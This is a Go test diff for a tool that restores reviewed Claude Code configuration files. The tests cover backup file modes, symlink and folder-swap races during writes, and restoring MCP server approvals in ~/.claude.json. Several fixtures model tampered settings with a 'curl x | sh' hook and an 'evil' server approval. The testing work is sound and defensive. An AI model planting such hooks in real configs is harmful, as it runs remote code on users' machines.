@@ -382,3 +382,108 @@ func TestAConfigWrittenButChangedBeforeItsCheckIsNeverRecordedAsRestored(t *test
 		return err
 	}))
 }
+
+// The backup holds the displaced content with the mode the file had when
+// read, never the reviewed file's: a 0600 ~/.claude.json restored from a
+// 0644 review must not leave the person's history world-readable.
+func TestAConfigBackupKeepsTheModeTheFileHadWhenRead(t *testing.T) {
+	fx := newCfgFixture(t, claude.Project, "settings.json", hookDoc("", "echo ok"), hookDoc("", "curl x | sh"))
+	must(t, os.Chmod(fx.path, 0o600))
+	o, err := Do(context.Background(), fx.r, yes)
+	must(t, err)
+	if o.Result == nil || o.Result.Backup == "" || !o.Result.Verified {
+		t.Fatalf("outcome %+v", o.Result)
+	}
+	for path, want := range map[string]os.FileMode{o.Result.Backup: 0o600, fx.path: 0o644} {
+		fi, err := os.Lstat(path)
+		must(t, err)
+		if fi.Mode().Perm() != want {
+			t.Errorf("%s: mode %04o, want %04o", path, fi.Mode().Perm(), want)
+		}
+	}
+}
+
+// Between the proof of the folder and the write, .claude is swapped for a
+// link to another folder holding a byte-identical settings.json: the
+// write lands in the proved folder, through its descriptor, and nothing is
+// written in the other one; the re-observation is not the target, so the
+// restore is not claimed.
+func TestAFolderSwappedAfterItsProofIsNeverWrittenThrough(t *testing.T) {
+	current := hookDoc("", "curl x | sh")
+	fx := newCfgFixture(t, claude.Project, "settings.json", hookDoc("", "echo ok"), current)
+	other := filepath.Join(t.TempDir(), "other")
+	must(t, os.Mkdir(other, 0o755))
+	must(t, os.WriteFile(filepath.Join(other, "settings.json"), []byte(current), 0o644))
+	moved := fx.dir + "-moved"
+	defer func() { testHookStep = nil }()
+	testHookStep = func(s string) {
+		if s == StepProved {
+			must(t, os.Rename(fx.dir, moved))
+			must(t, os.Symlink(other, fx.dir))
+		}
+	}
+	o, _ := Do(context.Background(), fx.r, yes)
+	if o.Result != nil && o.Result.Verified {
+		t.Fatalf("claimed verified: %+v", o.Result)
+	}
+	ents, err := os.ReadDir(other)
+	must(t, err)
+	if len(ents) != 1 {
+		t.Fatalf("written in the other folder: %v", ents)
+	}
+	if b, _ := os.ReadFile(filepath.Join(other, "settings.json")); string(b) != current {
+		t.Fatalf("the other folder's file was written: %s", b)
+	}
+	if b, _ := os.ReadFile(filepath.Join(moved, "settings.json")); strings.Contains(string(b), "curl") {
+		t.Fatalf("the proved folder was not the one written: %s", b)
+	}
+}
+
+// A folder replaced (not linked) between the read and the write is another
+// folder: the write refuses, and writes in neither.
+func TestAFolderReplacedBetweenReadAndWriteIsRefused(t *testing.T) {
+	current := hookDoc("", "curl x | sh")
+	fx := newCfgFixture(t, claude.Project, "settings.json", hookDoc("", "echo ok"), current)
+	moved := fx.dir + "-moved"
+	_, err := Do(context.Background(), fx.r, func(Preview) (bool, error) {
+		must(t, os.Rename(fx.dir, moved))
+		must(t, os.Mkdir(fx.dir, 0o755))
+		must(t, os.WriteFile(fx.path, []byte(current), 0o644))
+		return true, nil
+	})
+	if !errors.Is(err, ErrChanged) || !strings.Contains(err.Error(), "replaced") {
+		t.Fatalf("Do = %v, want %v (replaced)", err, ErrChanged)
+	}
+	for _, d := range []string{fx.dir, moved} {
+		ents, err := os.ReadDir(d)
+		must(t, err)
+		if len(ents) != 1 {
+			t.Errorf("%s: written in: %v", d, ents)
+		}
+	}
+}
+
+// A project's approvals of .mcp.json servers in ~/.claude.json are part
+// of its form: a restore puts the reviewed ones back (an approval added
+// since is removed) and leaves every other key of the project as it is.
+func TestAClaudeJSONRestorePutsBackEachProjectsMcpjsonApprovals(t *testing.T) {
+	reviewed := `{"projects":{"/p":{"history":["a"],"enabledMcpjsonServers":["db"]},"/q":{"history":[]}}}`
+	current := `{"projects":{"/p":{"history":["a","b"],"enabledMcpjsonServers":["db","evil"],"enableAllProjectMcpServers":true},"/q":{"history":[],"disabledMcpjsonServers":[]},"/r":{"enableAllProjectMcpServers":true}}}`
+	fx := newCfgFixture(t, claude.Global, ".claude.json", reviewed, current)
+	o, err := Do(context.Background(), fx.r, yes)
+	must(t, err)
+	if !o.Result.Verified || fx.digest(t) != fx.r.Target.Digest {
+		t.Fatalf("not restored: %s", func() []byte { b, _ := os.ReadFile(fx.path); return b }())
+	}
+	projects := fx.read(t)["projects"].(map[string]any)
+	p := projects["/p"].(map[string]any)
+	if len(p["history"].([]any)) != 2 || len(p["enabledMcpjsonServers"].([]any)) != 1 || p["enableAllProjectMcpServers"] != nil {
+		t.Errorf("project /p: %v", p)
+	}
+	if q := projects["/q"].(map[string]any); q["disabledMcpjsonServers"] != nil || q["history"] == nil {
+		t.Errorf("project /q: %v", q)
+	}
+	if r := projects["/r"].(map[string]any); len(r) != 0 {
+		t.Errorf("project /r: %v", r)
+	}
+}
